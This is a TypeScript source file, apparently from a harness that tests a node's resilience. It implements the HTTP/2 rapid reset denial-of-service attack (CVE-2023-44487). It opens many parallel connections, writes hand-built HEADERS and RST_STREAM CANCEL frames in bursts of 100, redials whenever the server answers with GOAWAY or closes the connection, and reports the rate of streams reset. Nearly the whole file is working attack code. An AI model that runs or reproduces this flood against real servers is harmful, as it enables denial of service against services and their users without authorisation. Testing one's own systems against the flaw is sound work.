// HTTP/2 rapid reset (CVE-2023-44487) on the guest port: over `connections` connections at
// once, open a stream (HEADERS of a gRPC call) and cancel it at once (RST_STREAM CANCEL), as
// fast as the socket takes them, for `durationMs`; a connection the node ends (GOAWAY, close)
// is dialled again after 5 ms. Frames are written by hand (h2-frames.ts). Bounded by time;
// each connection writes a batch per turn of the event loop and waits for the socket to drain.
import { readFileSync } from "node:fs";
import { type Socket, connect as tcpConnect } from "node:net";
import { connect as tlsConnect } from "node:tls";
import { GUEST_PATH } from "./h2-connect.js";
import {
  answerControl,
  emptySettings,
  errorCodeName,
  FRAME,
  FrameReader,
  grpcHeaderBlock,
  headersThenReset,
  PREFACE,
} from "./h2-frames.js";
import { type AttackerTls, type AttackOutcome, Tally } from "./outcome.js";
import { attackerAddress, splitTarget } from "./target.js";

export interface RapidResetSpec {
  readonly target: string;
  readonly connections: number;
  readonly durationMs: number;
  readonly tls?: AttackerTls;
}

const BURST_STREAMS = 100;
/** A client's stream ids are odd and below 2^31: start over on a new connection before that. */
const LAST_STREAM_ID = 2 ** 31 - 1;

function dial(spec: RapidResetSpec): Socket {
  const { host, port } = splitTarget(spec.target);
  if (!spec.tls) return tcpConnect({ host, port, ...attackerAddress(host) });
  return tlsConnect({
    host,
    port,
    ...attackerAddress(host),
    ALPNProtocols: ["h2"],
    ca: readFileSync(spec.tls.ca),
    cert: readFileSync(spec.tls.cert),
    key: readFileSync(spec.tls.key),
    servername: spec.tls.serverName,
  });
}

/** One connection's life: resets until the node ends it or time is up. */
function oneConnection(spec: RapidResetSpec, until: number, sent: Tally, answers: Tally) {
  return new Promise<void>((resolve) => {
    const socket = dial(spec);
    const block = grpcHeaderBlock(spec.target, GUEST_PATH, spec.tls ? "https" : "http");
    sent.add("connections");
    let streamId = 1;
    let done = false;
    const finish = (why?: string) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      if (why) answers.add(why);
      socket.destroy();
      resolve();
    };
    const timer = setTimeout(() => finish(), Math.max(0, until - performance.now()));
    const reader = new FrameReader((type, flags, payload) => {
      if (type === FRAME.GOAWAY)
        finish(`goaway:${payload.length >= 8 ? errorCodeName(payload.readUInt32BE(4)) : "?"}`);
      else answerControl(type, flags, payload, (b) => socket.write(b));
    });
    socket.on("data", (d: Buffer) => reader.push(d));
    socket.on("error", (e: NodeJS.ErrnoException) => finish(`error:${e.code ?? e.message}`));
    socket.on("close", () => finish("closed by the node"));
    // One batch per turn of the event loop, so GOAWAYs, closes and the deadline are seen.
    const burst = () => {
      if (done || performance.now() >= until) return;
      const frames: Buffer[] = [];
      for (let i = 0; i < BURST_STREAMS && streamId < LAST_STREAM_ID; i++, streamId += 2) {
        frames.push(headersThenReset(block, streamId));
      }
      sent.add("streams reset", frames.length);
      if (streamId >= LAST_STREAM_ID) {
        finish("stream ids used up");
        return;
      }
      if (socket.write(Buffer.concat(frames))) setImmediate(burst);
      else socket.once("drain", burst);
    };
    socket.once(spec.tls ? "secureConnect" : "connect", () => {
      socket.write(Buffer.concat([PREFACE, emptySettings()]));
      burst();
    });
  });
}

export async function rapidReset(spec: RapidResetSpec): Promise<AttackOutcome> {
  const until = performance.now() + spec.durationMs;
  const sent = new Tally();
  const answers = new Tally();
  const worker = async () => {
    while (performance.now() < until) {
      await oneConnection(spec, until, sent, answers);
      // A node that closes the connection at once must not turn this into a busy loop.
      if (performance.now() < until) await new Promise((r) => setTimeout(r, 5));
    }
  };
  await Promise.all(Array.from({ length: spec.connections }, worker));
  const rate = (sent.get("streams reset") * 1000) / spec.durationMs;
  return {
    sent: sent.counts,
    answers: answers.counts,
    note: `${spec.connections} connections for ${spec.durationMs / 1000} s: ${rate.toFixed(0)} streams/s reset, ${sent.get("connections")} connections dialled`,
  };
}
